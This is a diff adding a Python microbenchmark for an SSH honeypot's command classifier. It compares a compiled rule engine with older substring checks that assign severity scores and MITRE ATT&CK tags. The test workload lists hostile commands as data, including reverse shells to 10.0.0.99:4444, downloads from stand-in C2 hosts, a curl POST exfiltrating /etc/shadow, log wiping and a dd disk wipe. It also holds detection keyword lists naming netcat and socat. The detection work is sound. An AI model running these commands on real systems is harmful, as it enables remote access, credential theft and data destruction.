@@ -0,0 +1,150 @@
+"""
+benchmark_classifier.py — Microbenchmark for the SSH command classifier
+
+Compares the compiled rule engine (backend/rules.py) against the previous
+implementation, which rescanned each command with a chain of
+`any(x in cmd for x in [...])` lists per rule tier and rescanned the joined
+history again for TTP detection.
+
+Both sides are measured doing the same work: producing the per-command
+verdict *and* the command's TTP tags.
+
+Usage:
+    python benchmark_classifier.py [--iterations N] [--unique-ratio R]
+
+  --unique-ratio  share of commands that are unique (botnet sweeps are mostly
+                  repeats; 1.0 disables the engine's memo benefit entirely)
+"""
+
+import argparse
+import random
+import sys
+import time
+
+from backend.rules import RuleEngine, COMMAND_RULES, command_engine, verdict, ttps_of
+
+# Same command mix as simulate_attack.py
+ATTACK_COMMANDS = [
+    "whoami",
+    "id",
+    "uname -a",
+    "pwd",
+    "ls -la /root",
+    "cat /etc/passwd",
+    "cat /etc/shadow",
+    "ps aux",
+    "netstat -an",
+    "wget http://malware.example.com/botnet.sh",
+    "curl -O http://c2.server/payload.elf",
+    "chmod +x botnet.sh && ./botnet.sh",
+    "bash -i >& /dev/tcp/10.0.0.99/4444 0>&1",
+    "rm -rf /var/log/auth.log",
+    "history -c",
+    "crontab -l",
+    "sudo su -",
+    "dd if=/dev/zero of=/dev/sda",
+    "python3 -c \"import socket,os,pty; s=socket.socket(); s.connect(('10.0.0.99',4444)); os.dup2(s.fileno(),0); pty.spawn('/bin/bash')\"",
+    "curl -X POST http://c2.server/exfil --data @/etc/shadow",
+]
+
+
+# ─── Previous implementation (verbatim logic) ────────────────────────────────
+
+def legacy_verdict(command: str) -> dict:
+    cmd = command.lower()
+    if any(x in cmd for x in ["wget", "curl", "nc ", "ncat", "bash -i", "python -c", "php -r"]):
+        return {"severity": "CRITICAL", "score": 95}
+    if any(x in cmd for x in ["sudo", "rm -rf", "chmod 777", "chown", "dd ", "mkfs"]):
+        return {"severity": "HIGH", "score": 75}
+    if any(x in cmd for x in ["whoami", "id", "pwd", "ls", "uname", "cat /etc/passwd"]):
+        return {"severity": "MEDIUM", "score": 45}
+    return {"severity": "LOW", "score": 10}
+
+
+def legacy_ttps(command: str) -> set:
+    ttps = set()
+    all_cmds = command.lower()
+    if any(x in all_cmds for x in ["whoami", "id", "uname", "hostname", "ifconfig", "ip addr"]):
+        ttps.add("T1082")
+    if any(x in all_cmds for x in ["ps", "netstat", "ss "]):
+        ttps.add("T1057")
+    if any(x in all_cmds for x in ["cat /etc/passwd", "cat /etc/shadow"]):
+        ttps.add("T1003")
+    if any(x in all_cmds for x in ["bash -i", "python -c", "perl -e", "ruby -e", "php -r"]):
+        ttps.add("T1059")
+    if any(x in all_cmds for x in ["crontab", ".bashrc", ".profile", "~/.ssh/authorized_keys"]):
+        ttps.add("T1053")
+    if any(x in all_cmds for x in ["history -c", "unset histfile", "rm -rf /var/log"]):
+        ttps.add("T1070")
+    if any(x in all_cmds for x in ["wget", "curl", "nc ", "ncat", "socat"]):
+        ttps.add("T1105")
+    return ttps
+
+
+def run_legacy(commands):
+    for cmd in commands:
+        legacy_verdict(cmd)
+        legacy_ttps(cmd)
+
+
+def run_engine(engine, commands):
+    for cmd in commands:
+        matches = engine.match(cmd)
+        verdict(matches)
+        ttps_of(matches)
+
+
+# ─── Workload ─────────────────────────────────────────────────────────────────
+
+def build_workload(n: int, unique_ratio: float) -> list:
+    rng = random.Random(42)
+    workload = []
+    for i in range(n):
+        cmd = rng.choice(ATTACK_COMMANDS)
+        if rng.random() < unique_ratio:
+            # Botnet-style variation: random C2 address / filename
+            cmd = f"{cmd} # {rng.randint(1, 255)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{i}"
+        workload.append(cmd)
+    return workload
+
+
+def timed(fn, *args) -> float:
+    start = time.perf_counter()
+    fn(*args)
+    return time.perf_counter() - start
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Command classifier microbenchmark")
+    parser.add_argument("--iterations", type=int, default=200_000)
+    parser.add_argument("--unique-ratio", type=float, default=0.1)
+    args = parser.parse_args()
+
+    # Sanity check: verdicts must agree with the previous implementation
+    for cmd in ATTACK_COMMANDS:
+        old = legacy_verdict(cmd)
+        new = verdict(command_engine.match(cmd))
+        if (old["severity"], old["score"]) != (new.severity, new.score):
+            print(f"MISMATCH on {cmd!r}: {old} vs {new.severity}/{new.score}")
+            sys.exit(1)
+
+    workload = build_workload(args.iterations, args.unique_ratio)
+    cold_engine = RuleEngine(COMMAND_RULES, cache_size=0)
+    warm_engine = RuleEngine(COMMAND_RULES)
+
+    results = [
+        ("legacy any()-chains", timed(run_legacy, workload)),
+        ("compiled engine (no memo)", timed(run_engine, cold_engine, workload)),
+        ("compiled engine (memo)", timed(run_engine, warm_engine, workload)),
+    ]
+
+    baseline = results[0][1]
+    print(f"\n{args.iterations} commands, unique ratio {args.unique_ratio:.0%}\n")
+    print(f"{'implementation':<30}{'total':>10}{'per cmd':>12}{'speedup':>10}")
+    for label, elapsed in results:
+        per_cmd_us = elapsed / args.iterations * 1e6
+        print(f"{label:<30}{elapsed:>9.3f}s{per_cmd_us:>10.2f}us{baseline / elapsed:>9.2f}x")
+
+
+if __name__ == "__main__":
+    main()